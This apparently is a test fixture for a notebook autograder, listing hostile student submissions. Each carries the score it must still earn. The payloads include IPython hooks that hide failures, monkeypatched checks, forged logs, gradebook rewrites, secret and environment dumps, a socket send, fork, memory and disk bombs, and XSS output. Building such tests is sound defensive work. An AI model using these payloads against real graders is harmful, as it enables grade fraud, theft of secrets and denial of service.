@@ -1,0 +1,269 @@
+"""Hostile and broken submissions for the tiny course (tests/tiny_course.py: add = 1 visible + 2 hidden points,
+twice = 1 visible point), each with the score it must get: what the same submission earns without the attack.
+
+Every attack is code a student can put in a notebook: a cell of their own before the first solution cell
+(``before``), a solution cell replaced (``solution``), or the notebook file itself changed (``notebook``). The
+base is the blank release (0 points), the known bug ``add_subtracts`` (add wrong: 1 point) or the reference.
+``{course}``, ``{gradebook}``, ``{victim}``, ``{port}``, ``{home}`` in the code are filled in by the test: the
+course root, the gradebook, another student's submission, a port the test listens on, the home directory.
+"""
+
+from __future__ import annotations
+
+import copy
+from collections.abc import Callable
+from dataclasses import dataclass, field
+
+from nbformat import NotebookNode
+
+from autograder import sample_class
+from autograder.markup import is_solution
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    base: str  # "blank" | "add_subtracts" | "reference"
+    code: str = ""  # inserted before the first solution cell (str.format'ed with the test's paths)
+    score: float = 0.0  # what it must earn
+    states: tuple[str, ...] = ("graded", "tampering suspected")  # acceptable end states
+    change: Callable[[NotebookNode], NotebookNode] | None = None  # for structural attacks
+    must_not_print: tuple[str, ...] = ()  # what must not appear in its own autograded outputs
+    tags: set[str] = field(default_factory=set)
+
+
+def _edit_tests(nb: NotebookNode) -> NotebookNode:
+    """Test cells replaced by `pass` (nbgrader puts them back from the gradebook)."""
+    nb = copy.deepcopy(nb)
+    for c in nb.cells:
+        if c.get("metadata", {}).get("nbgrader", {}).get("grade"):
+            c.source = "pass"
+    return nb
+
+
+def _solution_claims_points(nb: NotebookNode) -> NotebookNode:
+    """A solution cell re-labelled as a graded test cell worth 100 points, with the id of a test cell."""
+    nb = copy.deepcopy(nb)
+    cell = next(c for c in nb.cells if is_solution(c))
+    cell.metadata["nbgrader"].update(grade=True, solution=False, points=100, grade_id="add__visible")
+    return nb
+
+
+def _kernelspec_and_ids(nb: NotebookNode) -> NotebookNode:
+    """Another kernel asked for, every cell id the same, tags and metadata scrambled."""
+    nb = copy.deepcopy(nb)
+    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
+    for c in nb.cells:
+        c["id"] = "same"
+        c.metadata["tags"] = ["parameters", "raises-exception"]
+    return nb
+
+
+INJECTED_BLANK = """
+import IPython
+ip = get_ipython()
+ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
+"""
+
+ATTACKS = [
+    # -- change how the kernel runs or reports later cells
+    Attack("transformer-empties-cells", "blank", INJECTED_BLANK),
+    Attack(
+        "transformer-skips-tests",
+        "blank",
+        "get_ipython().input_transformers_post.append(\n"
+        "    lambda lines: ['pass\\n'] if any('check_' in l for l in lines) else lines)",
+    ),
+    Attack(
+        "showtraceback-silenced",
+        "blank",
+        "from IPython.core.interactiveshell import InteractiveShell\n"
+        "InteractiveShell.showtraceback = lambda *a, **k: None\n"
+        "InteractiveShell._showtraceback = lambda *a, **k: None",
+    ),
+    Attack("custom-exc-swallows", "blank", "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"),
+    Attack(
+        "run-cell-replaced",
+        "blank",
+        "ip = get_ipython()\n"
+        "_orig = type(ip).run_cell\n"
+        "ip.run_cell = lambda raw_cell, *a, **k: _orig(ip, 'pass', *a, **k)\n"
+        "_orig_async = type(ip).run_cell_async\n"
+        "ip.run_cell_async = lambda raw_cell, *a, **k: _orig_async(ip, 'pass', *a, **k)",
+    ),
+    Attack(
+        "post-run-hook-clears-errors",
+        "blank",
+        "def _clear(result):\n"
+        "    result.error_in_exec = None\n"
+        "    result.error_before_exec = None\n"
+        "get_ipython().events.register('post_run_cell', _clear)\n"
+        "import sys\nsys.excepthook = lambda *a: None",
+    ),
+    Attack(
+        "sys-exit-in-solution",
+        "blank",
+        "import builtins\nbuiltins.NotImplementedError = SystemExit",
+    ),
+    # -- patch the checks, the comparison or torch
+    Attack("patch-compare", "add_subtracts", "import course.checks as cc\ncc.compare = lambda *a, **k: None", 1.0),
+    Attack(
+        "patch-finish-no-records", "add_subtracts", "import course.checks as cc\ncc._finish = lambda *a, **k: None", 1.0
+    ),
+    Attack(
+        "forge-got-equals-expected",
+        "add_subtracts",
+        "import course.checks as cc\n"
+        "_f = cc._finish\n"
+        "def _forged(check_id, case, kind, why, got, expected, *a, **k):\n"
+        "    return _f(check_id, case, kind, None, expected, expected, *a, **k)\n"
+        "cc._finish = _forged\n"
+        "cc.check_close.__globals__['_finish'] = _forged",
+        1.0,
+    ),
+    Attack(
+        "patch-code-object",
+        "add_subtracts",
+        "import course.checks as cc\n"
+        "def _ok(check_id, got, expected, **k):\n    return None\n"
+        "cc.check_close.__code__ = _ok.__code__\ncc.check_equal.__code__ = _ok.__code__",
+        1.0,
+    ),
+    Attack(
+        "patch-numpy-and-torch",
+        "add_subtracts",
+        "import numpy, torch\nnumpy.abs = lambda x: x * 0\ntorch.allclose = lambda *a, **k: True\n"
+        "numpy.isnan = lambda x: x != x",
+        1.0,
+    ),
+    Attack(
+        "lying-object",
+        "blank",
+        "",
+        0.0,
+        change=lambda nb: sample_class.with_cell(
+            nb,
+            "add_impl",
+            "class Liar(float):\n    def __eq__(self, o):\n        return True\n    __hash__ = float.__hash__\n"
+            "    def __sub__(self, o):\n        return 0.0\n"
+            "def add(a, b):\n    return Liar(0.0)",
+        ),
+    ),
+    Attack(
+        "forged-log-lines",
+        "blank",
+        "import json, os\n"
+        "with open(os.environ['COURSE_CHECK_LOG'], 'a') as fh:\n"
+        "    for cid, case in [('add/small', '1+2'), ('add/negative', '-2+0.5'), ('twice/int', '21')]:\n"
+        "        fh.write(json.dumps({'id': cid, 'case': case, 'kind': 'close', 'passed': True, 'message': 'ok',\n"
+        "                             'got': 0.0, 'expected': 0.0, 'tolerance': {'rtol': 1e-7, 'atol': 1e-10},\n"
+        "                             'cell': 'add__visible'}) + '\\n')",
+    ),
+    # -- reach outside the sandbox
+    Attack(
+        "reads-the-course-sources",
+        "blank",
+        "import glob, json\n"
+        "for p in glob.glob('{course}/source/*/*.ipynb') + ['{course}/source/00_tiny/00_tiny.ipynb']:\n"
+        "    for c in json.load(open(p))['cells']:\n"
+        "        if 'BEGIN SOLUTION' in ''.join(c['source']):\n"
+        "            exec(''.join(l for l in c['source'] if '###' not in l))",
+        must_not_print=("def add",),
+    ),
+    Attack(
+        "rewrites-the-gradebook",
+        "blank",
+        "import sqlite3\n"
+        "db = sqlite3.connect('{gradebook}')\n"
+        'db.execute("update grade set auto_score = 0")\n'
+        "db.commit()",
+    ),
+    Attack(
+        "overwrites-another-student",
+        "blank",
+        "import pathlib\n"
+        "pathlib.Path('{victim}').write_text('{}')\n"
+        "pathlib.Path('{course}/autograded/victim').mkdir(parents=True, exist_ok=True)",
+    ),
+    Attack(
+        "network",
+        "blank",
+        "import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=3)\ns.sendall(b'stolen')",
+    ),
+    Attack(
+        "reads-secrets",
+        "blank",
+        "import os, glob\n"
+        "print('ENV', dict(os.environ))\n"
+        "print('HOME', glob.glob('{home}/*'))\n"
+        "print('PROC', [open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])",
+        must_not_print=("AUTOGRADER_TEST_SECRET", "grade_batch", "pytest"),
+    ),
+    Attack("kills-the-grader", "blank", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, 9)"),
+    # -- exhaust resources
+    Attack(
+        "fork-bomb",
+        "blank",
+        "import os\n"
+        "for _ in range(5000):\n"
+        "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
+        "    if pid == 0:\n        import time\n        time.sleep(60)\n        os._exit(0)",
+        states=("graded", "student fault"),
+    ),
+    Attack(
+        "memory-bomb",
+        "blank",
+        "blocks = []\nwhile True:\n    blocks.append(bytearray(512 * 2**20))",
+        states=("graded", "student fault"),
+    ),
+    Attack(
+        "fills-the-disk",
+        "blank",
+        "import os\n"
+        "chunk = b'x' * 2**24\n"
+        "for d in ['/home/student', '/tmp', os.path.dirname(os.environ['COURSE_CHECK_LOG'])]:\n"
+        "    for n in range(200):\n"
+        "        try:\n"
+        "            with open(f'{d}/fill{n}', 'wb') as fh:\n"
+        "                for _ in range(64):\n                    fh.write(chunk)\n"
+        "        except OSError:\n            break",
+        states=("graded", "student fault"),
+    ),
+    Attack(
+        "huge-output", "blank", "for i in range(300_000):\n    print('spam' * 5, i)", states=("graded", "student fault")
+    ),
+    Attack(
+        "html-and-script-output",
+        "blank",
+        "from IPython.display import HTML, display, Javascript\n"
+        "display(HTML('<script>alert(1)</script><img src=x onerror=alert(2)>'))\n"
+        "display(Javascript('alert(3)'))\n"
+        "def add(a, b):\n    return '<script>alert(4)</script>'",
+    ),
+    Attack("os-exit", "blank", "import os\nos._exit(0)", states=("student fault",)),
+    Attack(
+        "sigint-proof-loop",
+        "blank",
+        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
+        states=("student fault",),
+    ),
+    # -- structural tampering of the notebook
+    Attack("edited-test-cells", "blank", change=_edit_tests),
+    Attack("solution-claims-points", "blank", change=_solution_claims_points),
+    Attack("kernelspec-and-ids", "blank", change=_kernelspec_and_ids),
+    Attack("edited-test-cells-on-a-bug", "add_subtracts", "", 1.0, change=_edit_tests),
+]
+
+
+def build(attack: Attack, bases: dict[str, dict[str, NotebookNode]], paths: dict[str, str]) -> dict[str, NotebookNode]:
+    notebooks = {}
+    for name, nb in bases[attack.base].items():
+        if attack.code:
+            code = attack.code
+            for key, value in paths.items():
+                code = code.replace("{" + key + "}", value)
+            nb = sample_class.insert_before_first_solution(nb, code)
+        if attack.change is not None:
+            nb = attack.change(nb)
+        notebooks[name] = nb
+    return notebooks
